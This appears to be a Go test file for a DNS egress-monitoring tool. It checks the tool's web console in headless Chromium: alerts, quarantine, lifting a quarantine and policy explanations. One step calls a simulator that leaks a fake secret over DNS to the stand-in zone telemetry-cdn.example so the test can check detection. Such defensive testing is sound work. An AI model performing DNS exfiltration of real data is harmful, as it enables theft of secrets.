package main

import (
	"context"
	"flag"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/kordon-dev/kordon/internal/demo/exfilsim"
	"github.com/kordon-dev/kordon/internal/testtool/browser"
	"github.com/kordon-dev/kordon/policy"
	"github.com/miekg/dns"
)

var updateScreenshots = flag.Bool("update", false, "write the web console's screenshots to docs/img")

// screenshot saves the page, or one element of it, as docs/img/NAME with -update.
func screenshot(t *testing.T, ctx context.Context, name, sel string) {
	t.Helper()
	shot := chromedp.FullScreenshot(100)
	if sel != "" {
		shot = chromedp.Screenshot(chromedp.CSS(sel))
	}
	png := browser.Get(t, ctx, "screenshot "+name, shot)
	if !*updateScreenshots {
		return
	}
	path := filepath.Join("..", "..", "docs", "img", name)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, png, 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestWebConsoleInChromium drives the web console of kordon dev in a real
// headless Chromium: an exfiltration raised by the test appears in the
// live feed, the quarantine it caused is lifted from the page and the
// worker resolves the domain again (a real DNS query to the dev
// resolver), the workload's names are listed, and the explain form gives
// policy.Explain's decision.
func TestWebConsoleInChromium(t *testing.T) {
	h := startDevHarness(t)
	ctx := browser.Start(t)
	base := "http://" + h.d.httpAddr.String()

	// Traffic for the egress view: allowed and blocked names.
	for _, q := range []struct{ from, name string }{
		{"127.0.0.13", "collect.analytics.example"}, {"127.0.0.13", "collect.analytics.example"},
		{"127.0.0.13", "tracker.adnet.example"}, {"127.0.0.10", "api.shop.example"}, {"127.0.0.10", "api.paygate.example"},
	} {
		h.query(t, q.from, q.name, dns.TypeA)
	}

	browser.Do(t, ctx, "open the console", chromedp.Navigate(base+"/ui/"),
		chromedp.WaitVisible(chromedp.CSS(`#feed-state[data-state="live"]`)),
		chromedp.WaitVisible(chromedp.CSS(`#mode`)))
	if mode := browser.Text(t, ctx, "#mode"); mode != "dev" {
		t.Errorf("mode %q, want dev", mode)
	}

	// The compromised worker leaks a file over DNS.
	ectx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	res, err := exfilsim.Run(ectx, exfilsim.Config{
		Server: h.d.dnsAddr.String(), Source: netip.MustParseAddr("127.0.0.13"),
		Zone: "telemetry-cdn.example", Data: exfilsim.FakeSecret(6000),
	})
	if err != nil || res.Failed != 0 {
		t.Fatalf("exfiltration: %+v %v", res, err)
	}
	if err := h.d.inspector.Sync(ectx); err != nil {
		t.Fatal(err)
	}
	// The alert arrives over the feed's event stream, with no reload.
	row := `#alerts tbody tr[data-kind="exfiltration"]`
	browser.Do(t, ctx, "the exfiltration alert on the page", chromedp.WaitVisible(chromedp.CSS(row)))
	alertText := browser.Text(t, ctx, row)
	for _, want := range []string{"shop/report-worker", "telemetry-cdn.example", "exfiltration"} {
		if !strings.Contains(alertText, want) {
			t.Errorf("alert row %q lacks %q", alertText, want)
		}
	}
	// Quarantined: the worker cannot resolve the domain.
	if r := h.query(t, "127.0.0.13", "www.telemetry-cdn.example", dns.TypeA); r.Rcode != dns.RcodeNameError {
		t.Fatalf("quarantined worker: rcode %s, want NXDOMAIN", dns.RcodeToString[r.Rcode])
	}
	lift := `#quarantines button.lift[data-domain="telemetry-cdn.example"]`
	browser.Do(t, ctx, "the quarantine on the page", chromedp.Click(chromedp.CSS(`#refresh-quarantines`)), chromedp.WaitVisible(chromedp.CSS(lift)))
	browser.Do(t, ctx, "the worker's egress", chromedp.Click(chromedp.CSS(`#refresh-egress`)),
		chromedp.WaitReady(chromedp.CSS(`#workload option[value="shop/report-worker"]`)),
		chromedp.SetValue(chromedp.CSS(`#workload`), "shop/report-worker"),
		chromedp.Click(chromedp.CSS(`#refresh-egress`)),
		chromedp.WaitVisible(chromedp.CSS(`#resolved tbody tr`)))
	browser.WaitText(t, ctx, "#blocked tbody", "adnet.example")
	browser.WaitText(t, ctx, "#blocked tbody", "telemetry-cdn.example")
	browser.WaitText(t, ctx, "#resolved tbody", "analytics.example")
	// The explain form: checkout may call payments, the batch worker may not.
	set := h.d.watcher.Current().Policies
	for _, c := range []struct {
		principal, verdict, by string
	}{
		{"spiffe://cluster.local/ns/shop/sa/checkout", "ALLOW", "shop/payments-from-checkout"},
		{"spiffe://cluster.local/ns/shop/sa/report-worker", "DENY", "kordon-system/deny-batch-to-pci"},
	} {
		// No earlier decision may be read as this one's.
		browser.Get(t, ctx, "clear the decision", chromedp.Evaluate[string](`document.querySelector("#decision-verdict").textContent = ""`))
		browser.Do(t, ctx, "explain "+c.principal,
			chromedp.SetValue(chromedp.CSS(`#explain input[name="labels"]`), "app=payments,pci=true"),
			chromedp.SetValue(chromedp.CSS(`#explain input[name="principal"]`), c.principal),
			chromedp.SetValue(chromedp.CSS(`#explain input[name="method"]`), "POST"),
			chromedp.SetValue(chromedp.CSS(`#explain input[name="path"]`), "/shop.payments.v1.Payments/Charge"),
			chromedp.Click(chromedp.CSS(`#explain button[type="submit"]`)))
		browser.WaitText(t, ctx, "#decision-verdict", c.verdict)
		verdict, by := browser.Text(t, ctx, "#decision-verdict"), browser.Text(t, ctx, "#decision-by")
		d, err := policy.Explain(set, policy.Target{Namespace: "shop", Labels: map[string]string{"app": "payments", "pci": "true"}},
			policy.Request{Principal: c.principal, Method: "POST", Path: "/shop.payments.v1.Payments/Charge"}, policy.CompileOptions{TrustDomain: xdsTrustDomain})
		if err != nil {
			t.Fatal(err)
		}
		if verdict != d.Decision || !strings.Contains(by, d.Policy) || !strings.Contains(by, c.by) {
			t.Errorf("page says %s %q; policy.Explain says %s by %s (%s), want %s by %s", verdict, by, d.Decision, d.Policy, d.Rule, c.verdict, c.by)
		}
		if c.verdict == "ALLOW" {
			screenshot(t, ctx, "console-explain.png", "#explain-section")
		}
	}
	screenshot(t, ctx, "console.png", "")

	// Lift it from the page: the worker resolves the domain again.
	// The page re-renders the list every 5 s; a click that lands on a
	// button just replaced is clicked again (at most 3 times).
	for i := 0; ; i++ {
		browser.Do(t, ctx, "click lift", chromedp.Click(chromedp.CSS(lift)))
		wctx, cancel := context.WithTimeout(ctx, 3*time.Second)
		err := chromedp.Do(wctx, chromedp.WaitNotPresent(chromedp.CSS(lift)))
		cancel()
		if err == nil {
			break
		}
		if i == 2 {
			t.Fatalf("the quarantine is still listed after 3 clicks on lift: %v", err)
		}
	}
	browser.WaitText(t, ctx, "#quarantines-status", "lifted")
	for _, name := range []string{"www.telemetry-cdn.example", "cdn.telemetry-cdn.example"} {
		r := h.query(t, "127.0.0.13", name, dns.TypeA)
		if r.Rcode != dns.RcodeSuccess || len(r.Answer) == 0 {
			t.Fatalf("%s after lifting from the page: rcode %s, %d answers; want NOERROR with an answer", name, dns.RcodeToString[r.Rcode], len(r.Answer))
		}
	}
	if err := h.d.inspector.Sync(ectx); err != nil {
		t.Fatal(err)
	}
	if q := h.d.inspector.Quarantines(); len(q) != 0 {
		t.Errorf("quarantines after lift: %+v", q)
	}
	screenshot(t, ctx, "console-lifted.png", "#quarantines-section")
}

// TestLineSink: records split across writes reach the summary whole.
func TestLineSink(t *testing.T) {
	t.Parallel()
	var got []string
	l := lineSink(func(b []byte) { got = append(got, string(b)) })
	for _, w := range []string{`{"a":`, "1}\n{\"b\"", ":2}\n\n{\"c\":3}\n{"} {
		if n, err := l.Write([]byte(w)); n != len(w) || err != nil {
			t.Fatalf("Write(%q) = %d, %v", w, n, err)
		}
	}
	if want := []string{`{"a":1}`, `{"b":2}`, ``, `{"c":3}`}; !slices.Equal(got, want) {
		t.Errorf("lines %q, want %q", got, want)
	}
}
